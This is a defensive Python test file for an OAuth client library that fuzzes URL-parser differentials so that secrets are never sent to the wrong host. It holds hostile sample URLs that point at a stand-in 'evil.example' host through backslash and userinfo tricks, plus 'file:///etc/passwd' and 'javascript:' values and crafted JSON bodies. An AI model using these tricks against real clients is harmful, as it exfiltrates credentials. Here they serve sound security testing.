"""Which host a URL sends the secret to, as every HTTP client reads it (issue 8: C1, C4, D).

``urlsplit`` and the clients do not parse URLs alike: for
``http://evil.example:PORT\\@127.0.0.1/token`` urlsplit (and httpx) see 127.0.0.1,
requests connects to evil.example. The check in ``bearer_m2m._transport`` accepts
only a strict grammar; the properties below fuzz it against the parsers the
clients really use: urlsplit, urllib3's ``parse_url``, requests'
``PreparedRequest.prepare_url`` (then ``parse_url`` on the result, as its adapter
does before connecting), ``httpx.URL``, and ``httpx2.URL`` where httpx2 is installed.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
import urllib3.util
from hypothesis import example, given
from hypothesis import strategies as st

from bearer_m2m import (
    ClientCredentialsAuth,
    ConfigurationError,
    InsecureTransportError,
    TokenError,
    _discovery,
)
from bearer_m2m._transport import (
    UnsafeURL,
    check_endpoint_url,
    connection_target,
    is_loopback_host,
    is_secure_url,
    require_secure_url,
)
from bearer_m2m.testing import make_self_signed_certificate
from tests.conftest import SECRET
from tests.servers import ApiServer, Reply, _Base

#: (scheme, host, port): what a client connects to; the port filled in from the scheme.
Endpoint = tuple[str, str, "int | None"]
DEFAULT_PORTS = {"http": 80, "https": 443}


def _normal(scheme: str, host: str | None, port: int | None) -> Endpoint:
    """One spelling per endpoint: lower case, IPv6 compressed without brackets, default port."""
    scheme = scheme.lower()
    host = (host or "").lower().removeprefix("[").removesuffix("]")
    with contextlib.suppress(ValueError):
        host = str(ipaddress.IPv6Address(host))
    return scheme, host, port if port is not None else DEFAULT_PORTS.get(scheme)


def parse_with_urlsplit(url: str) -> Endpoint:
    parts = urlsplit(url)
    return _normal(parts.scheme, parts.hostname, parts.port)


def parse_with_urllib3(url: str) -> Endpoint:
    parts = urllib3.util.parse_url(url)
    return _normal(parts.scheme or "", parts.host, parts.port)


def parse_with_requests(url: str) -> Endpoint:
    """requests prepares the URL, then its adapter parses the result with urllib3 to connect."""
    prepared = requests.models.PreparedRequest()
    prepared.prepare_url(url, None)
    return parse_with_urllib3(prepared.url or "")


def _httpx_parser(module: Any) -> Callable[[str], Endpoint]:
    def parse(url: str) -> Endpoint:
        parsed = module.URL(url)
        # raw_host is what the transport connects to (IDNA-encoded; .host is decoded).
        return _normal(parsed.scheme, parsed.raw_host.decode("ascii"), parsed.port)

    return parse


def client_parsers() -> dict[str, Callable[[str], Endpoint]]:
    """Every parser that decides where a secret goes; httpx and httpx2 imported lazily."""
    parsers = {
        "urlsplit": parse_with_urlsplit,
        "urllib3": parse_with_urllib3,
        "requests": parse_with_requests,
    }
    for name in ("httpx", "httpx2"):
        try:
            module = __import__(name)
        except ImportError:
            continue
        parsers[name] = _httpx_parser(module)
    return parsers


PARSERS = client_parsers()


def readings(url: str) -> dict[str, Endpoint | None]:
    """How each parser reads ``url``; ``None`` where it refuses it (nothing is sent then)."""
    result: dict[str, Endpoint | None] = {}
    for name, parse in PARSERS.items():
        try:
            result[name] = parse(url)
        except Exception:  # every parser has its own error types; refusing is what counts
            result[name] = None
    return result


def _safe_for_client(endpoint: Endpoint) -> bool:
    scheme, host, _ = endpoint
    return scheme == "https" or (scheme == "http" and is_loopback_host(host))


# -- the strategies: URLs built from the pieces that confuse parsers --------------------------

PIECES = [
    "http", "https", "HTTP", "hTtPs", "ftp", "http+unix", "A.", "://", "//", ":/", ":", "/", "\\",
    "\\\\", "@", "?", "#", "[", "]", "%", "%2f", "%40", "%5c", "%5C", "%00", "%20", ".", "..",
    "127.0.0.1", "127.0.0.2", "127.1", "0x7f.0.0.1", "2130706433", "localhost", "LOCALHOST",
    "localhost.", "::1", "[::1]", "[::ffff:127.0.0.1]", "[fe80::1%25lo]", "evil.example",
    "auth.example.com", "xn--bcher-kva", "bücher", "8080", "0", "443", "65535", "65536", "99999",
    "abc", "user", "u:p", " ", "\t", "\n", "\r", "\x00", "\x7f", "\x85", "\u00a0", "\u200b",
    "\u2028", "\ufeff", "\u3002", "\uff0e", "\uff20", "\uff0f", "\u2044", ";", "=", "&", "~",
    "-", "_", "+", "a", "Z", "9",
]  # fmt: skip

pieced_urls = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
#: URLs that start well (so the interesting part is what follows the scheme).
schemed_urls = st.builds(
    lambda scheme, rest: f"{scheme}://{rest}",
    st.sampled_from(["http", "https", "HTTP", "HTTPS"]),
    pieced_urls,
)
any_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)
urls = st.one_of(schemed_urls, pieced_urls, any_text)

ATTACKS = [
    "http://evil.example:8080\\@127.0.0.1/token",
    "http://evil.example\\@127.0.0.1/token",
    "http://127.0.0.2:8080\\@127.0.0.1/token",
    "https://evil.example\\@auth.example.com/token",
    "http://evil.example\\\\@localhost/token",
]


@given(urls)
@example("http://evil.example:8080\\@127.0.0.1/token")
@example("https://evil.example\\@auth.example.com/token")
@example("http://127.0.0.1\t/token")
def test_whenever_the_check_says_secure_every_client_agrees(url: str) -> None:
    """Soundness: no client parser reads a URL we accept as plain http to another host."""
    if not is_secure_url(url):
        return
    for name, endpoint in readings(url).items():
        assert endpoint is not None, (name, url)
        assert _safe_for_client(endpoint), (name, endpoint, url)


@given(urls)
@example("http://evil.example:8080\\@127.0.0.1/token")
@example("http://LOCALHOST:0080/")
@example("http://[0:0::1]:8080/")
@example("A.://0")  # urllib3 takes no "." in a scheme, urlsplit and httpx do
def test_whenever_the_parsers_disagree_the_check_refuses(url: str) -> None:
    """The stronger property: the grammar is a subset of where every parser reads the same
    endpoint, and the endpoint it reports is that one."""
    seen = readings(url)
    if len(set(seen.values())) > 1:
        assert not is_secure_url(url), (url, seen)
        with pytest.raises(UnsafeURL):
            connection_target(url)
        return
    try:
        target = connection_target(url)
    except UnsafeURL:
        return
    expected = _normal(target.scheme, target.host, target.port)
    assert set(seen.values()) == {expected}, (url, seen)


@pytest.mark.parametrize("client", ["httpx", "httpx2"])
def test_the_differential_covers_each_importable_httpx(client: str) -> None:
    """The httpx half of the fuzz may only be missing where httpx cannot be imported
    (it is a dependency); httpx2 takes part wherever it is installed."""
    pytest.importorskip(client, reason=f"{client} is not importable: the fuzz runs without it")
    assert client in PARSERS


@pytest.mark.parametrize("url", ATTACKS)
def test_the_known_attacks_are_refused(url: str) -> None:
    assert not is_secure_url(url)
    with pytest.raises(InsecureTransportError) as raised:
        require_secure_url(url, "the client credentials")
    assert "evil" not in str(raised.value)  # nothing of the URL is quoted


@pytest.mark.parametrize(
    ("url", "endpoint"),
    [
        ("https://auth.example.com/oauth/token", ("https", "auth.example.com", None)),
        ("HTTPS://Auth.Example.COM:8443/t?p=B2C_1_policy", ("https", "auth.example.com", 8443)),
        ("http://127.0.0.1:8080/token", ("http", "127.0.0.1", 8080)),
        ("http://[::1]:8080/token", ("http", "::1", 8080)),
        ("http://localhost/token", ("http", "localhost", None)),
        ("https://xn--bcher-kva.example/token", ("https", "xn--bcher-kva.example", None)),
        # requests' prepared form of API URLs: userinfo and an escaped backslash in the path.
        ("http://a%40b:pw@127.0.0.1/x", ("http", "127.0.0.1", None)),
        ("http://127.0.0.2:8080/%5C@127.0.0.1/x", ("http", "127.0.0.2", 8080)),
        # httpx keeps a backslash in the path as it is: the host is settled before it.
        ("http://127.0.0.1/a\\b", ("http", "127.0.0.1", None)),
    ],
)
def test_well_formed_urls_are_read_as_every_client_reads_them(
    url: str, endpoint: tuple[str, str, int | None]
) -> None:
    target = connection_target(url)
    assert (target.scheme, target.host, target.port) == endpoint
    assert is_secure_url(url)
    assert set(readings(url).values()) == {_normal(*endpoint)}


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://127.0.0.1 /token", "whitespace or a control character"),
        ("http://127.0.0.1/to ken", "whitespace or a control character"),
        ("http://127.0.0.1\t.evil.example/token", "whitespace or a control character"),
        ("http://127.0.0.1\n/token", "whitespace or a control character"),
        ("\x00http://127.0.0.1/token", "whitespace or a control character"),
        ("http://127.0.0.1\u200b/token", "whitespace or a control character"),
        ("http://127.0.0.1\u00a0/token", "whitespace or a control character"),
        ("http://127.0.0.1/\u2028token", "whitespace or a control character"),
        ("http://127\uff0e0\uff0e0\uff0e1/token", "not ASCII"),
        ("https://bücher.example/token", "not ASCII"),
        ("http:127.0.0.1/token", "not an absolute URL"),
        ("http:\\\\127.0.0.1/token", "not an absolute URL"),
        ("//127.0.0.1/token", "not an absolute URL"),
        ("http://evil.example\\@127.0.0.1/token", "backslash"),
        ("http://a@b@127.0.0.1/token", "malformed host, port or user name"),
        ("http://127.0.0.1%2f@evil/token", None),  # well-formed: evil is the host
        ("http://[::1/token", "malformed host, port or user name"),
        ("http://[fe80::1%25lo]/token", "malformed host, port or user name"),
        ("http://[::1::2]/token", "malformed IPv6 address"),
        ("http://999.0.0.1/token", "malformed IPv4 address"),
        ("http://127.0.0.1:99999/token", "port outside 1-65535"),
        ("http://127.0.0.1:0/token", "port outside 1-65535"),
        ("http://127.0.0.1:abc/token", "malformed host, port or user name"),
        ("http://127.0.0.1:/token", "malformed host, port or user name"),
        ("http:///token", "malformed host, port or user name"),
    ],
)
def test_urls_outside_the_grammar_are_refused_with_a_reason(url: str, reason: str | None) -> None:
    assert not is_secure_url(url)
    if reason is None:
        assert connection_target(url).host == "evil"
        return
    with pytest.raises(UnsafeURL, match=reason):
        connection_target(url)


def test_the_check_is_cached_for_the_adapters_hot_path() -> None:
    """The adapters call it for every plain-http API request (loopback in tests and dev)."""
    url = "http://127.0.0.1:1/cached-check"
    is_secure_url(url)
    hits = is_secure_url.cache_info().hits
    assert is_secure_url(url)
    assert is_secure_url.cache_info().hits == hits + 1


# -- the constructor: token_url (C1, C4, D) ---------------------------------------------------

PASSWORD = "hunter2-Pa55w0rd"
QUERY_SECRET = "qu3ry-S3cret"


def make(token_url: object, **options: Any) -> ClientCredentialsAuth:
    return ClientCredentialsAuth(
        token_url,  # type: ignore[arg-type]
        client_id="client-1",
        client_secret=SECRET,
        **options,
    )


def texts_of(exc: BaseException) -> list[str]:
    return [str(exc), repr(exc), repr(exc.args), "".join(traceback.format_exception(exc))]


def assert_clean(exc: BaseException, *forbidden: str) -> None:
    for text in texts_of(exc):
        for value in (SECRET, PASSWORD, QUERY_SECRET, *forbidden):
            assert value not in text, (value, text)


@pytest.mark.parametrize("allow_insecure_http", [False, True])
@pytest.mark.parametrize("url", ATTACKS)
def test_a_token_url_that_clients_read_differently_is_refused_even_when_http_is_allowed(
    url: str, allow_insecure_http: bool
) -> None:
    with pytest.raises(ConfigurationError, match=r"^token_url has a backslash") as raised:
        make(url, allow_insecure_http=allow_insecure_http)
    assert_clean(raised.value, "evil")


@pytest.mark.parametrize(
    "url",
    [
        f"https://user:{PASSWORD}@auth.example.com/oauth/token",
        f"https://{PASSWORD}@auth.example.com/oauth/token",
        f"https://:{PASSWORD}@auth.example.com/oauth/token",
        f"https://user:{PASSWORD}@auth.example.com:8443/oauth/token?{QUERY_SECRET}",
        f"http://user:{PASSWORD}@127.0.0.1/oauth/token",
        f"http://user:{PASSWORD}@auth.example.com/oauth/token",
        "https://@auth.example.com/oauth/token",
        "http://127.0.0.1@auth.example.com/oauth/token",
    ],
)
@pytest.mark.parametrize("allow_insecure_http", [False, True])
def test_userinfo_in_the_token_url_is_refused_without_quoting_it(
    url: str, allow_insecure_http: bool, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    with pytest.raises(ConfigurationError) as raised:
        make(url, allow_insecure_http=allow_insecure_http)
    message = str(raised.value)
    assert "user name or password" in message
    assert "client_id" in message and "client_secret" in message  # it says what to do
    assert_clean(raised.value)
    assert all(PASSWORD not in record.getMessage() for record in caplog.records)


@pytest.mark.parametrize(
    "url",
    [
        "http://[::1/token",
        f"https://user:{PASSWORD}@[::1/token?{QUERY_SECRET}",
        "https://auth.example.com:99999/token",
        f"https://auth.example.com:99999/token?key={QUERY_SECRET}",
        f"https://user:{PASSWORD}@auth.example.com:abc/token",
        "https://auth.example.com:abc/token",
        "https://auth.example.com:-1/token",
        f"https://auth.example.com\\{PASSWORD}@auth.example.com/token",
        "https:///token",
        "https:auth.example.com/token",
        "not a url",
        "",
        "ftp://auth.example.com/token",
        f"file:///etc/passwd?{QUERY_SECRET}",
    ],
)
def test_a_malformed_token_url_is_a_configuration_error(url: str) -> None:
    """Issue 8 D: a ValueError subclass as before, but typed, and quoting nothing."""
    with pytest.raises(ConfigurationError, match=r"^token_url ") as raised:
        make(url)
    assert isinstance(raised.value, ValueError)
    assert_clean(raised.value)


@pytest.mark.parametrize("token_url", [None, 42, b"https://auth.example.com/token"])
def test_a_token_url_that_is_no_string_is_a_configuration_error(token_url: object) -> None:
    with pytest.raises(ConfigurationError, match="token_url must be an http"):
        make(token_url)


tricky_token_urls = st.builds(
    lambda scheme, userinfo, host, tail: f"{scheme}://{userinfo}{host}{tail}?q={QUERY_SECRET}",
    st.sampled_from(["http", "https", "HTTP"]),
    st.sampled_from(["", f"u:{PASSWORD}@", f"{PASSWORD}@", f":{PASSWORD}@"]),
    pieced_urls,
    pieced_urls,
)


@given(st.one_of(tricky_token_urls, urls))
def test_any_token_url_builds_a_client_or_raises_a_clean_configuration_error(url: str) -> None:
    """Whatever the string, the constructor raises nothing but ConfigurationError, whose text
    holds no userinfo or query; what it accepts, every client reads as the same endpoint."""
    try:
        auth = make(url)
    except ConfigurationError as exc:
        assert_clean(exc)
        return
    target = connection_target(url)
    assert not target.has_userinfo
    assert is_secure_url(url)
    assert set(readings(url).values()) == {_normal(target.scheme, target.host, target.port)}
    assert auth.token_url == url


# -- real sockets: the listener the secret would reach -------------------------------------------


@dataclass
class Listener:
    """A loopback server on another address than 127.0.0.1 that records what reaches it."""

    server: Any

    @property
    def received(self) -> list[tuple[str, str | None, bytes]]:
        return list(self.server.seen)

    def trap(self, via: str = "127.0.0.1") -> str:
        """A token URL that urlsplit (and httpx) read as ``via`` but requests sends here."""
        return f"http://127.0.0.2:{self.server.port}\\@{via}/oauth/token"


@pytest.fixture
def evil() -> Iterator[Listener]:
    server = ApiServer(accepts=lambda token: False, host="127.0.0.2")
    yield Listener(server)
    server.close()


def test_requests_really_sends_a_backslash_url_to_the_other_host(evil: Listener) -> None:
    """The attack is real: without the check, requests posts the secret to the listener."""
    assert urlsplit(evil.trap()).hostname == "127.0.0.1"
    requests.post(evil.trap(), data={"client_secret": SECRET}, timeout=5)
    assert [(path, body) for path, _, body in evil.received] == [
        ("/%5C@127.0.0.1/oauth/token", f"client_secret={SECRET}".encode())
    ]


@pytest.mark.parametrize("allow_insecure_http", [False, True])
def test_a_backslash_token_url_sends_nothing_to_the_listener(
    evil: Listener, allow_insecure_http: bool
) -> None:
    with pytest.raises(ConfigurationError) as raised:
        make(evil.trap(), allow_insecure_http=allow_insecure_http).token()
    assert evil.received == []
    assert_clean(raised.value, "127.0.0.2")


class DiscoveryServer:
    """Serves one scripted body at every path, on 127.0.0.1: the issuer's metadata."""

    def __init__(self) -> None:
        owner = self

        class Server(_Base):
            def handle(self, method: str, path: str, headers: dict[str, str], body: bytes) -> Reply:
                owner.paths.append(path)
                return Reply(owner.status, owner.body, {"Content-Type": "application/json"})

        self.paths: list[str] = []
        self.status = 200
        self.body = b"{}"
        self._server = Server()
        self.issuer = f"{self._server.origin}/"
        self.port = self._server.port

    def serve(self, document: object) -> None:
        self.body = json.dumps(document).encode()

    def close(self) -> None:
        self._server.close()


@pytest.fixture
def discovery() -> Iterator[DiscoveryServer]:
    _discovery._documents.clear()
    server = DiscoveryServer()
    yield server
    server.close()
    _discovery._documents.clear()


@pytest.fixture(scope="module")
def shared_discovery() -> Iterator[DiscoveryServer]:
    """One server for all the examples of a property (each one clears the document cache)."""
    server = DiscoveryServer()
    yield server
    server.close()
    _discovery._documents.clear()


@pytest.mark.parametrize("field_name", ["token_endpoint", "mtls_endpoint_aliases"])
def test_a_discovered_backslash_endpoint_sends_nothing_to_the_listener(
    field_name: str, evil: Listener, discovery: DiscoveryServer, tmp_path: Path
) -> None:
    document: dict[str, object] = {"issuer": discovery.issuer}
    if field_name == "token_endpoint":
        document["token_endpoint"] = evil.trap()
        credentials: dict[str, object] = {"client_secret": SECRET}
    else:
        document["token_endpoint"] = f"{discovery.issuer}oauth/token"
        document["mtls_endpoint_aliases"] = {"token_endpoint": evil.trap()}
        document["token_endpoint_auth_methods_supported"] = ["self_signed_tls_client_auth"]
        credentials = {"cert": tuple(make_self_signed_certificate(tmp_path))}
    discovery.serve(document)

    with pytest.raises(ConfigurationError, match="backslash") as raised:
        ClientCredentialsAuth.from_issuer(
            discovery.issuer, client_id="client-1", **credentials
        ).token()
    assert evil.received == []
    assert "discovery document" in str(raised.value)
    assert_clean(raised.value, "127.0.0.2")


# -- the issuer and the discovery document ---------------------------------------------------------


@pytest.mark.parametrize(
    "issuer",
    [
        "http://user:{password}@127.0.0.1:{port}/",
        "http://{password}@127.0.0.1:{port}/",
        "http://127.0.0.2:{port}\\@127.0.0.1:{port}/",
        "http://127.0.0.1:{port}/?{query}",
        "http://127.0.0.1:{port}/#{query}",
        "http://127.0.0.1:{port}/?",
        "http://127.0.0.1:{port}\t/",
    ],
)
def test_an_issuer_with_userinfo_a_query_or_a_trick_is_refused_before_any_request(
    issuer: str, discovery: DiscoveryServer
) -> None:
    issuer = issuer.format(password=PASSWORD, port=discovery.port, query=QUERY_SECRET)
    discovery.serve({"issuer": issuer, "token_endpoint": f"{discovery.issuer}oauth/token"})
    with pytest.raises(ConfigurationError, match=r"^issuer ") as raised:
        ClientCredentialsAuth.from_issuer(issuer, client_id="client-1", client_secret=SECRET)
    assert discovery.paths == []
    assert_clean(raised.value)


def _from_issuer(discovery: DiscoveryServer, **options: Any) -> ClientCredentialsAuth:
    options.setdefault("client_secret", SECRET)
    return ClientCredentialsAuth.from_issuer(discovery.issuer, client_id="client-1", **options)


def _document(discovery: DiscoveryServer, **fields: object) -> dict[str, object]:
    return {"issuer": discovery.issuer, "token_endpoint": f"{discovery.issuer}oauth/token", **fields}


DEEP = 10_000


@pytest.mark.parametrize(
    ("body", "match"),
    [
        ("[" * DEEP + "]" * DEEP, "no discovery document found"),
        ('{"issuer": ' + "[" * DEEP + "]" * DEEP + "}", "no discovery document found"),
        ('{"a": ' * DEEP + "1" + "}" * DEEP, "no discovery document found"),
        ('{"issuer": ' + "9" * 5000 + "}", "no discovery document found"),
        ('{"issuer": 1e999}', "names another issuer"),
        ("NaN", "no discovery document found"),
        ("\xff\xfe{", "no discovery document found"),
        ("", "no discovery document found"),
    ],
    ids=["deep-array", "deep-issuer", "deep-object", "huge-int", "infinite", "nan", "binary", "empty"],
)
def test_a_crafted_document_body_is_a_configuration_error(
    body: str, match: str, discovery: DiscoveryServer
) -> None:
    discovery.body = body.encode("latin-1")
    with pytest.raises(ConfigurationError, match=match) as raised:
        _from_issuer(discovery)
    assert_clean(raised.value)


def test_a_document_past_the_size_bound_is_refused_unread(discovery: DiscoveryServer) -> None:
    padding = "x" * _discovery.MAX_DOCUMENT_BYTES
    discovery.serve(_document(discovery, padding=padding))
    with pytest.raises(ConfigurationError, match="larger than 1024 KiB"):
        _from_issuer(discovery)


def test_a_document_just_under_the_size_bound_is_read(discovery: DiscoveryServer) -> None:
    document = _document(discovery)
    room = _discovery.MAX_DOCUMENT_BYTES - len(json.dumps({**document, "padding": ""}))
    discovery.serve({**document, "padding": "x" * room})
    assert len(discovery.body) == _discovery.MAX_DOCUMENT_BYTES
    assert _from_issuer(discovery).token_url == f"{discovery.issuer}oauth/token"


@pytest.mark.parametrize(
    ("fields", "match"),
    [
        ({"issuer": "{issuer}\\@evil.example/"}, "names another issuer \\(a malformed URL\\)"),
        ({"issuer": f"http://user:{PASSWORD}@127.0.0.1:{{port}}/"}, "names another issuer"),
        ({"issuer": "{issuer}?" + QUERY_SECRET}, "names another issuer"),
        ({"issuer": "{issuer}" + "x" * 100_000}, "names another issuer"),
        ({"issuer": None}, "names another issuer \\(a NoneType, not a URL\\)"),
        ({"issuer": ["{issuer}"]}, "names another issuer \\(a list, not a URL\\)"),
        ({"token_endpoint": "{evil}"}, "token_endpoint has a backslash"),
        ({"token_endpoint": f"https://user:{PASSWORD}@auth.example.com/t"}, "user name or password"),
        ({"token_endpoint": "ftp://auth.example.com/token"}, "must be an http\\(s\\) URL"),
        ({"token_endpoint": "file:///etc/passwd"}, "token_endpoint"),
        ({"token_endpoint": "javascript:alert(1)"}, "token_endpoint"),
        ({"token_endpoint": "/oauth/token"}, "token_endpoint"),
        ({"token_endpoint": "//evil.example/oauth/token"}, "token_endpoint"),
        ({"token_endpoint": "http://evil.example/oauth/token"}, "refusing to send the client"),
        ({"token_endpoint": 1e308}, "must be an http\\(s\\) URL, not float"),
        ({"token_endpoint": {"url": "x"}}, "must be an http\\(s\\) URL, not dict"),
        ({"token_endpoint": ""}, "names no token_endpoint"),
        ({"token_endpoint": None}, "names no token_endpoint"),
        ({"token_endpoint_auth_methods_supported": "client_secret_basic"}, "not a list of names"),
        ({"token_endpoint_auth_methods_supported": [{}, ["client_secret_post"]]}, "list of names"),
        ({"token_endpoint_auth_methods_supported": [1e999]}, "not a list of names"),
        ({"token_endpoint_auth_methods_supported": ["tls_client_auth"]}, "the server supports"),
    ],
)
def test_a_crafted_document_is_a_clean_configuration_error(
    fields: dict[str, object], match: str, discovery: DiscoveryServer, evil: Listener
) -> None:
    """Placeholders: {issuer} (without its trailing slash), {port}, {evil} (a backslash trap)."""

    def fill(value: object) -> object:
        if isinstance(value, str):
            return (
                value.replace("{issuer}", discovery.issuer.rstrip("/"))
                .replace("{port}", str(discovery.port))
                .replace("{evil}", evil.trap())
            )
        if isinstance(value, list):
            return [fill(item) for item in value]
        return value

    discovery.serve(_document(discovery, **{name: fill(value) for name, value in fields.items()}))
    # Raised while building: no token request is made, to this host or any other.
    with pytest.raises(ConfigurationError, match=match) as raised:
        _from_issuer(discovery)
    assert evil.received == []
    assert_clean(raised.value, "evil.example/", "x" * 200)


@pytest.mark.parametrize(
    ("aliases", "match"),
    [
        ([], "mtls_endpoint_aliases is not an object"),
        ("https://mtls.example/token", "mtls_endpoint_aliases is not an object"),
        ({"token_endpoint": 5}, "mtls_endpoint_aliases.token_endpoint must be an http"),
        ({"token_endpoint": f"https://u:{PASSWORD}@mtls.example/t"}, "user name or password"),
    ],
)
def test_a_crafted_mtls_alias_is_a_clean_configuration_error(
    aliases: object, match: str, discovery: DiscoveryServer, tmp_path: Path
) -> None:
    discovery.serve(
        _document(
            discovery,
            mtls_endpoint_aliases=aliases,
            token_endpoint_auth_methods_supported=["self_signed_tls_client_auth"],
        )
    )
    cert = tuple(make_self_signed_certificate(tmp_path))
    with pytest.raises(ConfigurationError, match=match) as raised:
        _from_issuer(discovery, client_secret=None, cert=cert)
    assert_clean(raised.value)


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["client_secret_post", "client_secret_basic", "tls_client_auth"])
    | urls,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)


@given(
    fields=st.dictionaries(
        st.sampled_from(
            [
                "issuer",
                "token_endpoint",
                "mtls_endpoint_aliases",
                "token_endpoint_auth_methods_supported",
            ]
        ),
        json_values,
    ),
    method=st.sampled_from([None, "client_secret_post", "client_secret_basic"]),
)
def test_any_discovery_document_gives_a_secure_client_or_a_typed_error(
    fields: dict[str, object], method: str | None, shared_discovery: DiscoveryServer
) -> None:
    _discovery._documents.clear()
    shared_discovery.serve({**_document(shared_discovery), **fields})
    try:
        auth = _from_issuer(shared_discovery, auth_method=method)
    except TokenError as exc:
        assert_clean(exc)
        return
    target = check_endpoint_url(auth.token_url, "token_url")
    assert is_secure_url(auth.token_url) and not target.has_userinfo
